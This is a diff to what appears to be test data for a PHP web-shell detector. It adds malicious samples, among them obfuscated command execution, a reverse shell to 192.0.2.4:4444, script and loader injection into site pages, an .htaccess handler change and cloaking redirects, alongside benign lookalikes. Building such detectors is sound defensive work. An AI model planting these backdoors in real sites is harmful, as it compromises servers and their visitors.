@@ -45,6 +45,30 @@ SHELLS = {
     "program in an address": "$q = fn($s) => include 'data://text/plain;base64,' . $s; $q($_POST['p']);",
     "framework's word of its own making": "class JInput { function getCmd($n) { return $_REQUEST[$n]; } } "
     f"$input = new JInput; {EVALUATE}($input->getCmd('a'));",
+    "nothing as default": f"$c = base64_decode($_SERVER['HTTP_IF_MATCH'] ?? ''); {RUN}($c . ' 2>&1');",
+    "at lower priority": f"{RUN}('nice ' . $_GET['c']);",
+    "all requests together": "$a = $_POST + $_GET; echo $a['f']($a['x']);",
+    "case of a list": f"enum O: string {{ case A = '{RUN}'; case B = 'trim'; "
+    "public function run($x) { return ($this->value)($x); } } O::from($_GET['o'])->run($_GET['x']);",
+    "letters exchanged": "function w($s) { return strtr($s, 'abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'); } "
+    "$k = w('flfgrz'); $k($_GET['x']);",
+    "any method": "class R { function __call($n, $a) { return call_user_func_array($n, $a); } } "
+    "$r = new R; $m = $_SERVER['HTTP_X_M']; $r->$m($_SERVER['HTTP_X_A']);",
+    "stream of its own": "stream_wrapper_register('cod', 'S'); include 'cod://' . $_POST['z'];",
+    "what was logged": "if (isset($_GET['d'])) { include '/var/log/nginx/access.log'; }",
+    "script of pictures when made": "new Imagick('vid:msl:/tmp/php*');",
+    "shell over a connection": f"$s = fsockopen('192.0.2.4', 4444); {OPEN}(['/bin/sh', '-i'], [$s, $s, $s], $p);",
+    "page made to load a script": "$f = 'footer.php'; $h = file_get_contents($f); file_put_contents($f, "
+    "str_replace('</body>', '<script src=\"//s.example/a.js\"></script></body>', $h));",
+    "loader before a page": "foreach (glob('*/index.php') as $f) { $h = file_get_contents($f); "
+    "file_put_contents($f, \"<?php @include '/tmp/.x'; ?>\" . $h); }",
+    "handler written": "file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');",
+    "led away with a tail": "if (strpos($_SERVER['HTTP_REFERER'], 'google.')) "
+    "{ header('Location: https://c.example/?r=' . $_SERVER['HTTP_HOST']); }",
+    "upload beside words of a check": "/* valid: in_array, mime */ function other() { return preg_match('/a/', 'b'); } "
+    "move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']);",
+    "search engines in front of a comment": "// file_get_contents('http://127.0.0.1/')\n"
+    "if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) { echo file_get_contents('http://192.0.2.7/l'); }",
     "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
 }
 HONEST = {
@@ -57,6 +81,19 @@ HONEST = {
     "renderer": "if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) "
     "{ echo file_get_contents('http://127.0.0.1:3000/' . $_SERVER['REQUEST_URI']); }",
     "own program written": "file_put_contents('c.php', '<?php return [1, 2];');",
+    "kind asked by a helper": "function check($f) { return in_array(pathinfo($f, PATHINFO_EXTENSION), ['jpg']); } "
+    "if (check($_FILES['x']['name'])) { move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']); }",
+    "kind asked in the same class": "class U { private function fits() { return in_array($this->suffix, ['jpg']); } "
+    "function save() { if ($this->fits()) { move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']); } } }",
+    "kind asked by a library": "if (!$v->isValidImage($_FILES['x'])) { exit; } "
+    "move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']);",
+    "kind asked later in the file": "class A { function go() { $this->save($_FILES['x']); } } "
+    "function save($f) { move_uploaded_file($f['tmp_name'], $_FILES['x']['name']); } "
+    "$k = finfo_file($i, $_FILES['x']['tmp_name']);",
+    "page with another page in it": "file_put_contents('c.php', '<?php /* made */ ?>' . file_get_contents('t.php'));",
+    "application's rewrites": "file_put_contents('.htaccess', 'RewriteRule ^index\\.php$ - [L]');",
+    "sum": "$a = $_GET['a'] + $_GET['b']; echo number_format($a);",
+    "weather for everybody": "echo file_get_contents('https://weather.example/today');",
     "theme of a site": "$t = $_GET['t'] ?? 'home'; if (!preg_match('/^[a-z]+$/', $t)) { exit; } include __DIR__ . '/' . $t;",
 }
 
